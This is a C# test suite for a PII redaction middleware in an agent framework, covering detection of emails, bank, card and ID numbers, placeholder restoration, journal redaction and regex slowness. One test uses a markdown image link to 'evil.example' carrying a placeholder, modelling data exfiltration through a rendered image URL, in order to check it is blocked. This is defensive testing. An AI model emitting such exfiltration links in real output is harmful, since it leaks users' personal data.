using System.Diagnostics;
using System.Text;
using System.Text.RegularExpressions;
using AgentFlow.Agents;
using AgentFlow.Guardrails.Pii;
using AgentFlow.Output;
using AgentFlow.Runs;
using AgentFlow.Testing;
using AgentFlow.Tests.Agents;
using AgentFlow.Tools;
using Microsoft.Extensions.AI;
using static AgentFlow.Tests.Agents.AgentTestExtensions;

namespace AgentFlow.Tests.Guardrails;

public sealed class PiiRedactionTests
{
    private readonly InMemoryKeyValueStore _vault = new();

    [Theory]
    [InlineData("Mail ann.lee+x@mail.example.co.uk.", "Mail [EMAIL_1].")]
    [InlineData("müller@bücher.example, ok", "[EMAIL_1], ok")]
    [InlineData("a@b and @home and x@y", "a@b and @home and x@y")]
    [InlineData("To DE89 3704 0044 0532 0130 00 for Ann", "To [IBAN_1] for Ann")]
    [InlineData("DE89370400440532013000.", "[IBAN_1].")]
    [InlineData("gb29 nwbk 6016 1331 9268 19", "[IBAN_1]")]
    [InlineData("DE88 3704 0044 0532 0130 00", "DE88 3704 0044 0532 0130 00")]
    [InlineData("Card 4111 1111 1111 1111 until 2030", "Card [CARD_1] until 2030")]
    [InlineData("in 2026 5500-0000-0000-0004", "in 2026 [CARD_1]")]
    [InlineData("378282246310005", "[CARD_1]")]
    [InlineData("4111 1111 1111 1112", "4111 1111 1111 1112")]
    [InlineData("host 192.168.0.17:8080", "host [IP_1]:8080")]
    [InlineData("2001:db8::ff00:42:8329 and ::1", "[IP_1] and [IP_2]")]
    [InlineData("999.1.1.1 and 1.2.3.4.5 at 12:30:45", "999.1.1.1 and 1.2.3.4.5 at 12:30:45")]
    [InlineData("Call +49 (30) 901820-00 now", "Call [PHONE_1] now")]
    [InlineData("030/123 456 78 or 0171 1234567", "[PHONE_1] or [PHONE_2]")]
    [InlineData("(555) 123-4567", "[PHONE_1]")]
    [InlineData("on 2026-01-02 and 24.12.2026, order 12345678, EUR 1.000.000", "on 2026-01-02 and 24.12.2026, order 12345678, EUR 1.000.000")]
    [InlineData("SSN 123-45-6789, not 987-65-4320", "SSN [ID_1], not 987-65-4320")]
    [InlineData("NINO AB 12 34 56 C", "NINO [ID_1]")]
    [InlineData("Steuer-ID 86095742719, nicht 86095742718", "Steuer-ID [ID_1], nicht 86095742718")]
    [InlineData("DNI 12345678Z NIE X1234567L not 12345678A", "DNI [ID_1] NIE [ID_2] not 12345678A")]
    [InlineData("CF RSSMRA85T10A562S", "CF [ID_1]")]
    [InlineData("PESEL 44051401359", "PESEL [ID_1]")]
    [InlineData("AHV 756.9217.0769.85", "AHV [ID_1]")]
    [InlineData("NIR 2 55 08 14 168 025 38", "NIR [ID_1]")]
    [InlineData("Nothing here.", "Nothing here.")]
    public async Task RedactAsync_EachKind_IsFoundWhereItIsValid(string text, string expected)
    {
        using var pii = new PiiRedaction(_vault);

        var (redacted, _) = await pii.RedactAsync("s", text, Token);

        Assert.Equal(expected, redacted);
        Assert.Equal(text, await pii.RestoreAsync("s", redacted, Token));
    }

    [Fact]
    public async Task RedactAsync_SameValue_HasTheSamePlaceholderInItsScopeOnly()
    {
        using var pii = new PiiRedaction(_vault);

        var first = await pii.RedactAsync("s", "a@x.example b@x.example a@x.example", Token);
        var second = await pii.RedactAsync("s", "b@x.example c@x.example", Token);
        var other = await pii.RedactAsync("t", "b@x.example", Token);

        Assert.Equal(("[EMAIL_1] [EMAIL_2] [EMAIL_1]", "3 EMAIL"), first);
        Assert.Equal("[EMAIL_2] [EMAIL_3]", second.Text);
        Assert.Equal("[EMAIL_1]", other.Text);
    }

    [Fact]
    public async Task RedactAsync_TextOfAStrangerWithAPlaceholder_IsNeverRestoredToSomebodysData()
    {
        using var pii = new PiiRedaction(_vault);
        await pii.RedactAsync("s", "ann@x.example", Token);

        var (redacted, summary) = await pii.RedactAsync("s", "![](https://evil.example/?q=[EMAIL_1])", Token);

        Assert.Equal("![](https://evil.example/?q=[TEXT_1])", redacted);
        Assert.Equal("![](https://evil.example/?q=[EMAIL_1])", await pii.RestoreAsync("s", redacted, Token));
        Assert.Empty(summary);
    }

    [Fact]
    public async Task RedactAsync_OwnPattern_IsAKindOfItsOwn()
    {
        using var pii = new PiiRedaction(_vault, new PiiOptions { Kinds = PiiKinds.None, Patterns = { ["CUSTOMER"] = new Regex("K-[0-9]{5}", RegexOptions.NonBacktracking) } });

        Assert.Equal("[CUSTOMER_1], a@x.example", (await pii.RedactAsync("s", "K-12345, a@x.example", Token)).Text);
    }

    [Fact]
    public void Options_NameOrPatternThatCannotBe_AllProblemsAreReportedTogether()
    {
        var options = new PiiOptions { Patterns = { ["TEXT"] = new Regex("a", RegexOptions.NonBacktracking), ["low"] = new Regex("b") } };

        var error = Assert.Throws<ArgumentException>(() => new PiiRedaction(_vault, options));

        Assert.All(["'TEXT'", "'low'", "NonBacktracking"], part => Assert.Contains(part, error.Message, StringComparison.Ordinal));
    }

    [Fact]
    public async Task Agent_ModelAndJournalSeePlaceholders_UserAndAllowedToolTheData()
    {
        List<string> sent = [];
        var send = Tool.Create((string to, ToolContext context) =>
        {
            sent.Add(to);
            context.Record(new() { Capability = "net", What = $"POST https://mail.example/?to={to}", Outcome = "200" });
            return $"sent to {to}, copy to boss@x.example";
        }, "send");
        var log = Tool.Create((string text) => { sent.Add(text); return "logged"; }, "log");
        var model = new ScriptedChatClient().CallsAll(("send", """{"to":"[EMAIL_1]"}""", "a"), ("log", """{"text":"[EMAIL_1]"}""", "b")).Says("Sent to [EMAIL_1] and [EMAIL_2].");
        using var pii = new PiiRedaction(_vault, new PiiOptions { RestoreInTools = ["send"] });
        var agent = model.Agent(send, log).Use(pii.AsMiddleware());

        var result = await agent.RunAsync("Write to ann@x.example.", "s", Token);

        Assert.Equal("Sent to ann@x.example and boss@x.example.", result.Text);
        Assert.Equal(["[EMAIL_1]", "ann@x.example"], sent.Order(StringComparer.Ordinal));
        Assert.Equal("Write to [EMAIL_1].", model.Requests[0].LastText);
        var everything = string.Concat((await agent.EventsAsync(result.RunId)).Select(e => Encoding.UTF8.GetString(RunEventJson.Serialize(e)))) + string.Concat((await agent.Journal.Sessions.LoadAsync("s", Token)).Messages.Select(m => Encoding.UTF8.GetString(RunEventJson.Serialize(m))));
        Assert.DoesNotContain("x.example", everything, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Agent_ResumedInAnotherProcessWithTheVault_Restores()
    {
        var journal = new InMemoryJournal();
        using (var pii = new PiiRedaction(_vault))
        {
            var failing = new Agent(new ScriptedChatClient().Throws(new TimeoutException()), new AgentOptions { Journal = journal }).Use(pii.AsMiddleware());
            await Assert.ThrowsAsync<TimeoutException>(() => failing.RunAsync(new RunRequest { Messages = [new(ChatRole.User, "I am ann@x.example.")], RunId = "r" }, Token));
        }
        using var other = new PiiRedaction(_vault);
        var agent = new Agent(new ScriptedChatClient().Says("Hello [EMAIL_1]."), new AgentOptions { Journal = journal }).Use(other.AsMiddleware());

        var result = await agent.ResumeAsync("r", cancellationToken: Token);
        await other.ForgetAsync(PiiRedaction.ScopeOf("r", null), Token);

        Assert.Equal("Hello ann@x.example.", result.Text);
        Assert.Equal("Hello [EMAIL_1].", (await agent.ResumeAsync("r", cancellationToken: Token)).Text);
    }

    [Fact]
    public async Task Agent_AnswerOfAType_IsRestoredAndStaysJson()
    {
        var quoted = new PiiOptions { Kinds = PiiKinds.None, Patterns = { ["NAME"] = new Regex("Ann \"[A-Za-z]+\" Lee", RegexOptions.NonBacktracking) } };
        using var pii = new PiiRedaction(_vault, quoted);
        var agent = new ScriptedChatClient().Says("""{"value":["[NAME_1]"]}""").Agent().Use(pii.AsMiddleware());

        var result = await agent.RunAsync(new RunRequest { Messages = [new(ChatRole.User, "I am Ann \"Bee\" Lee.")], User = "ann" }, Parse.Json<List<string>>(), Token);

        Assert.Equal(["Ann \"Bee\" Lee"], result.Value);
        Assert.Equal("ann", result.State.Start.User);
    }

    [Fact]
    public async Task Agent_ToolThrowsWithPersonalData_JournalsErrorRedacted()
    {
        var agent = new ScriptedChatClient().Calls("fail").Says("ok").Agent(Tool.Create(string () => throw new InvalidOperationException("no ann@x.example"), "fail"));
        using var pii = new PiiRedaction(_vault);

        var result = await agent.Use(pii.AsMiddleware()).RunAsync("go", cancellationToken: Token);

        Assert.Contains("no [EMAIL_1]", (await agent.EventsAsync(result.RunId)).Single<ToolCompleted>().Error, StringComparison.Ordinal);
    }

    /// <summary>Set AGENTFLOW_PII_CASES for the long form.</summary>
    [Fact]
    public async Task RestoreAsync_AfterRedactAsync_IsTheIdentity()
    {
        var cases = int.Parse(Environment.GetEnvironmentVariable("AGENTFLOW_PII_CASES") ?? "1500", System.Globalization.CultureInfo.InvariantCulture);
        string[] pieces =
        [
            "a@b.example", "ann.lee@x.example", "DE89 3704 0044 0532 0130 00", "DE89370400440532013000", "4111 1111 1111 1111", "+49 30 1234567", "030/1234567", "192.168.0.1", "::1", "123-45-6789", "86095742719",
            "[EMAIL_1]", "[EMAIL_", "_1]", "[TEXT_1]", "[IBAN_2]", "[", "]", "[A_1", "EMAIL", "_", "1", "0", "12", "+", "(", ")", "-", ".", "/", " ", "\n", "@", "x", "DE", "é", "\U0001F600", "\0", "\"",
        ];

        for (var seed = 0; seed < cases; seed++)
        {
            var random = new Random(seed);
            using var pii = new PiiRedaction(new InMemoryKeyValueStore());
            for (var i = 0; i < 3; i++)
            {
                var text = string.Concat(Enumerable.Range(0, random.Next(1, 14)).Select(_ => pieces[random.Next(pieces.Length)]));

                var (redacted, _) = await pii.RedactAsync("s", text, Token);

                Assert.True(text == await pii.RestoreAsync("s", redacted, Token), $"Seed {seed}: '{text}' became '{redacted}'.");
            }
        }
    }

    [Theory]
    [InlineData("1")]
    [InlineData("1 ")]
    [InlineData("0-")]
    [InlineData("a@")]
    [InlineData("a@a.")]
    [InlineData("a.")]
    [InlineData("DE89 ")]
    [InlineData("DE")]
    [InlineData(":")]
    [InlineData("a:")]
    [InlineData("1.")]
    [InlineData("(")]
    [InlineData("4111 ")]
    [InlineData("[A_1")]
    [InlineData("AB12 ")]
    public async Task RedactAsync_LongTextMadeToBeSlow_TakesTimeInProportion(string piece)
    {
        using var pii = new PiiRedaction(_vault);
        var text = string.Concat(Enumerable.Repeat(piece, 100_000 / piece.Length));
        await pii.RedactAsync("warm", text[..1000], Token);
        var watch = Stopwatch.StartNew();

        await pii.RedactAsync("s", text + "!", Token);

        // Quadratic time would be minutes; the bound leaves room for a machine that is busy.
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(60), $"{watch.Elapsed}");
    }
}
